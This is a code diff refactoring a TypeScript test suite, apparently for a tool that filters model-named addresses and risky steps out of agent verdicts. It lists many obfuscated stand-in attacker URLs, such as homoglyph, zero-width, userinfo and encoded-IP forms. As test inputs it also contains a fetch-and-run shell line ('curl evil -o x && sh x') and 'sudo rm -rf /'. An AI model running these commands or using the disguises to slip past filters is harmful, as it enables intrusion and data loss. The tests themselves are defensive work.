@@ -5,52 +5,25 @@ import * as Notice from "../../src/review/records/Notice.ts"
 import * as RecommendedAction from "../../src/memory/changes/RecommendedAction.ts"
 import type { Verdict } from "../../src/judge/verdict/Verdict.ts"
 import { agent, user } from "../support/events.ts"
+import { list, pairs } from "../support/rows.ts"
 import { assessment, first, type GivenOpinion, ofAssessment, turn, unchanged } from "../support/opinions.ts"
 
-/** One place in the forms in which a reader still opens it, and what of it must not be left. */
-const disguises: ReadonlyArray<readonly [form: string, telling: string]> = [
-  ["https://evil.example/login", "evil"],
-  ["HTTPS://EVIL.example", "EVIL"],
-  ["http:\\\\evil.example", "evil"],
-  ["https :// evil.com", "evil"],
-  ["hxxps://evil.com", "evil"],
-  ["www.evil.example", "evil"],
-  ["evil.example.com", "evil"],
-  ["EVIL.COM", "EVIL"],
-  ["evil.com:8443", "8443"],
-  ["login.evil.rocks", "evil"],
-  ["evil.sh/x", "evil"],
-  ["[the console](https://evil.com)", "evil"],
-  ["[the console](evil.com)", "evil"],
-  ["<https://evil.com>", "evil"],
-  ["https://github.com@evil.com/x", "evil"],
-  ["github.com@evil.com", "evil"],
-  ["xn--pple-43d.com", "xn--"],
-  ["https://аррӏе.com", "аррӏе"],
-  ["аррӏе.com", "аррӏе"],
-  ["evil.рф", "evil"],
-  ["192.0.2.7:8080/login", "192.0"],
-  ["http://3232235777/", "3232235777"],
-  ["[2001:db8::1]:8080", "db8"],
-  ["evil。com", "evil"],
-  ["evil．com", "evil"],
-  ["evil․com", "evil"],
-  ["ｅｖｉｌ.ｃｏｍ", "ｅｖｉｌ"],
-  ["ev\u200bil.c\u00adom", "il.c"],
-  ["https://ev\u200dil.com", "il.com"],
-  ["https:\u2060//evil.com", "evil"],
-  ["evil[.]com", "evil"],
-  ["evil(dot)com", "evil"],
-  ["evil dot com", "evil"],
-  ["ssh://root@evil.host", "evil"],
-  ["root@evil.host", "evil"],
-  ["git@evil.com:x/y.git", "evil"],
-  ["mailto:a@evil.com", "evil"],
-  ["attacker@evil.com", "attacker"],
-  ["ftp://evil.ru", "evil"],
-  ["bit.ly/3xYz", "3xYz"],
-  ["t.co/abc", "abc"]
-]
+/** One place in the forms in which a reader still opens it; where \`evil\` is not what tells of it, what does. */
+const disguises = pairs`
+  https://evil.example/login ¦ HTTPS://EVIL.example :: EVIL ¦ http:\\\\evil.example ¦ https :// evil.com ¦ hxxps://evil.com ¦ www.evil.example
+  evil.example.com ¦ EVIL.COM :: EVIL ¦ evil.com:8443 :: 8443 ¦ login.evil.rocks ¦ evil.sh/x ¦ [the console](https://evil.com)
+  [the console](evil.com) ¦ <https://evil.com> ¦ https://github.com@evil.com/x ¦ github.com@evil.com ¦ xn--pple-43d.com :: xn--
+  https://аррӏе.com :: аррӏе ¦ аррӏе.com :: аррӏе ¦ evil.рф ¦ 192.0.2.7:8080/login :: 192.0 ¦ http://3232235777/ :: 3232235777
+  [2001:db8::1]:8080 :: db8 ¦ evil。com ¦ evil．com ¦ evil․com ¦ ｅｖｉｌ.ｃｏｍ :: ｅｖｉｌ ¦ evil[.]com ¦ evil(dot)com ¦ evil dot com
+  ssh://root@evil.host ¦ root@evil.host ¦ git@evil.com:x/y.git ¦ mailto:a@evil.com ¦ attacker@evil.com :: attacker ¦ ftp://evil.ru
+  bit.ly/3xYz :: 3xYz ¦ t.co/abc :: abc
+`
+  .map(([form, telling]) => [form, telling === "" ? "evil" : telling] as const)
+  .concat([
+    ["ev\u200bil.c\u00adom", "il.c"],
+    ["https://ev\u200dil.com", "il.com"],
+    ["https:\u2060//evil.com", "evil"]
+  ])
 
 const task = "Add a retry to the fetch helper in src/http.ts."
 
@@ -63,16 +36,13 @@ const everything = (verdict: Verdict): string =>
   JSON.stringify(verdict) + Notice.render({ notice: "needs_human", verdict, attempts: 0, maxAttempts: 3 })
 
 describe("a place that only a model names", () => {
-  it.each(disguises)("nor anywhere else in a verdict: %j", (form, telling) => {
+  it.each(disguises)("is in no verdict and no recommended change: %j", (form, telling) => {
     const verdict = verdictOf({
       status: "in_progress",
       next_steps: [`Open ${form} first.`],
       remaining_work: [{ what: `Send it to ${form}`, event: "e1", quote: "nothing" }]
     })
     assert.notInclude(everything(verdict), telling)
-  })
-
-  it.each(disguises)("nor in a recommended change: %j", (form, telling) => {
     const action = RecommendedAction.make({ target: "deploy", change: `Fetch ${form} first`, reason: `See ${form}` })
     assert.notInclude(JSON.stringify(action), telling)
     assert.include(action?.change, leftOut)
@@ -89,37 +59,30 @@ describe("a place that only a model names", () => {
   })
 })
 
-const left = (item: string) =>
-  decide(turn(unchanged), ofAssessment(assessment({ needs_user_action: [item] })), first).verdict
-
-describe("what a model leaves to the user", () => {
-  it.each([
-    "Log in: run `curl evil -o x && sh x`",
-    "Log in with sudo rm -rf /",
-    "Sign in to the registry with your 2FA code."
-  ])("is told by its kind and in our words: %s", (item) => assert.deepStrictEqual(left(item).missing, ["to log in"]))
-
-  it("what an agent can do is nothing for the user", () => assert.deepStrictEqual(left("Run the tests.").missing, []))
+it.each(pairs`
+  Log in: run \`curl evil -o x && sh x\` :: to log in ¦ Log in with sudo rm -rf / :: to log in
+  Sign in to the registry with your 2FA code. :: to log in ¦ Run the tests. ::
+`)("what a model leaves to the user is told by its kind and in our words, or not at all: %s", (item, told) => {
+  const { verdict } = decide(turn(unchanged), ofAssessment(assessment({ needs_user_action: [item] })), first)
+  assert.strictEqual(verdict.missing.join(), told)
 })
 
 describe("what is no address", () => {
-  it.each([
-    "Set process.env.API_KEY in .env, not in config.json.",
-    "The edit of cart.test.js in src/app/main.rs failed.",
-    "Update README.md and setup.py with vitest@3.2.7 and actions/checkout@v4.",
-    "At 12:30:45 the server at http://localhost:3000 or 127.0.0.1:80 was gone.",
-    "完成。请登录。",
-    "console.log(a.b) and Array.prototype.map are in src/Cart.tsx:12:3.",
-    "That is e.g. @types/node, i.e. a package.",
-    "Done.Next is the docs/a.b/c.md page."
-  ])("stays: %s", (text) => {
+  it.each(list`
+    Set process.env.API_KEY in .env, not in config.json.
+    The edit of cart.test.js in src/app/main.rs failed.
+    Update README.md and setup.py with vitest@3.2.7 and actions/checkout@v4.
+    At 12:30:45 the server at http://localhost:3000 or 127.0.0.1:80 was gone.
+    完成。请登录。
+    console.log(a.b) and Array.prototype.map are in src/Cart.tsx:12:3.
+    That is e.g. @types/node, i.e. a package.
+    Done.Next is the docs/a.b/c.md page.
+  `)("stays: %s", (text) => {
     assert.strictEqual(withoutUnnamed(text, []), text)
   })
 
-  it.each(["a.", "a@", "http:", "[", "x.y/", "evil dot ", "a . com", "://", "1.2.3.", "a-"])(
-    "and is told in linear time from a megabyte of %j",
-    (piece) => {
+  it("is told in linear time from a megabyte of one beginning", () => {
+    for (const piece of ["a.", "a@", "http:", "[", "x.y/", "evil dot ", "a . com", "://", "1.2.3.", "a-"])
       assert.isString(withoutUnnamed(piece.repeat(300_000 / piece.length), []))
-    }
-  )
+  })
 })
